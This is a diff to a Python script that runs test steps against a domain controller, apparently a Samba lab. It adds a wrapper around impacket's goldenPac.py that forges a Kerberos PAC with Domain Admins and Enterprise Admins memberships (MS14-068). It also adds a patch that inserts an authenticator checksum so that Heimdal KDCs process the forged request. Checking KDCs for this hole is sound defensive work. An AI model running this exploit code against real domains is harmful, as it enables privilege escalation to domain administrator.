@@ -1153,6 +1153,95 @@ def step_cldap_user_enum(args):
     out(f"{len(names)} names tried, existing: {found}")
 
 
+def load_example(name: str):
+    """One of impacket's example scripts (installed beside the venv's python) as a module."""
+    import importlib.util
+
+    path = Path(sys.executable).parent / f"{name}.py"
+    spec = importlib.util.spec_from_file_location(f"dcw_{name}", path)
+    mod = importlib.util.module_from_spec(spec)
+    spec.loader.exec_module(mod)
+    return mod
+
+
+def _authenticator_checksum(gp) -> None:
+    """goldenPac's forged-PAC TGS-REQ has no authenticator checksum (PyKEK's has one); Heimdal
+    would refuse it for that alone (KRB_AP_ERR_INAPP_CKSUM) before looking at the PAC. Add the
+    keyed checksum over the request body (RFC 4120 5.5.1, key usage 6), as
+    impacket_patches.tgs_authenticator_checksum does for impacket's own TGS-REQs."""
+    from impacket.krb5.asn1 import AP_REQ, TGS_REQ, Authenticator
+    from impacket.krb5.crypto import make_checksum
+    from pyasn1.codec.der import decoder, encoder
+
+    keys: dict = {}
+    forge = gp.MS14_068.getKerberosTGS
+
+    def get_tgs(self, serverName, domain, kdcHost, tgt, cipher, sessionKey, authTime):
+        keys.update(cipher=cipher, key=sessionKey)
+        return forge(self, serverName, domain, kdcHost, tgt, cipher, sessionKey, authTime)
+
+    send = gp.sendReceive
+
+    def send_receive(data, domain, kdc_host):
+        if keys:
+            cipher, key = keys.pop("cipher"), keys.pop("key")
+            req = decoder.decode(data, asn1Spec=TGS_REQ())[0]
+            ap = decoder.decode(req["padata"][0]["padata-value"], asn1Spec=AP_REQ())[0]
+            plain = cipher.decrypt(key, 7, ap["authenticator"]["cipher"].asOctets())
+            auth = decoder.decode(plain, asn1Spec=Authenticator())[0]
+            ctype = {18: 16, 17: 15, 23: -138}[int(key.enctype)]
+            body = impacket_patches._strip_explicit_tag(encoder.encode(req["req-body"]))
+            auth["cksum"]["cksumtype"] = ctype
+            auth["cksum"]["checksum"] = make_checksum(ctype, key, 6, body)
+            ap["authenticator"]["cipher"] = cipher.encrypt(key, 7, encoder.encode(auth), None)
+            req["padata"][0]["padata-value"] = encoder.encode(ap)
+            data = encoder.encode(req)
+        return send(data, domain, kdc_host)
+
+    gp.MS14_068.getKerberosTGS = get_tgs
+    gp.sendReceive = send_receive
+
+
+def step_ms14_068(args):
+    """impacket goldenPac.py (MS14-068, CVE-2014-6324) without the psexec part: the user's SID
+    over SAM-R, a TGT requested *without* a PAC (PA-PAC-REQUEST include-pac = FALSE), then a
+    TGS-REQ for krbtgt presenting that TGT with a forged PAC (Domain Admins, Enterprise
+    Admins, ... with an unkeyed MD5 checksum) in enc-authorization-data. Patched KDCs refuse."""
+    import logging
+
+    logging.basicConfig(stream=sys.stdout, level=logging.INFO, format="%(message)s")
+    gp = load_example("goldenPac")
+    # goldenPac.py imports these under `if __name__ == "__main__"`: give the module them
+    src = (Path(sys.executable).parent / "goldenPac.py").read_text()
+    main_block = src.split("if __name__ == '__main__':", 1)[1]
+    imports = [ln.strip() for ln in main_block.split("print(version.BANNER)")[0].splitlines()]
+    code, cont = [], False
+    for ln in imports:
+        if ln.startswith(("import ", "from ")) or cont:
+            code.append(ln)
+            cont = ln.endswith("\\")
+    exec("\n".join(code), gp.__dict__)  # the script's own import lines
+    gp.domain, gp.username = FQDN_DOMAIN, args.user  # globals its main block sets too
+    _authenticator_checksum(gp)
+    exp = gp.MS14_068(DC, DC_IP, args.user, args.password, FQDN_DOMAIN, None, "None", None,
+                      None, DC)
+    look_up_sid = exp.getUserSID
+
+    def user_sid():  # Samba's SamrLookupDomainInSamServer knows the NetBIOS name only
+        exp._MS14_068__domain = DOMAIN
+        try:
+            return look_up_sid()
+        finally:
+            exp._MS14_068__domain = FQDN_DOMAIN
+
+    exp.getUserSID = user_sid
+    try:
+        exp.exploit()  # logs "... found vulnerable!" or "... seems not vulnerable (why)"
+        out("MS14-068 attempt finished")
+    except Exception as e:  # noqa: BLE001 - the refusal is the expected outcome
+        out(f"MS14-068 refused: {krb_error(e)[:160]}")
+
+
 STEPS = {name[5:]: fn for name, fn in globals().items() if name.startswith("step_")}
 
 
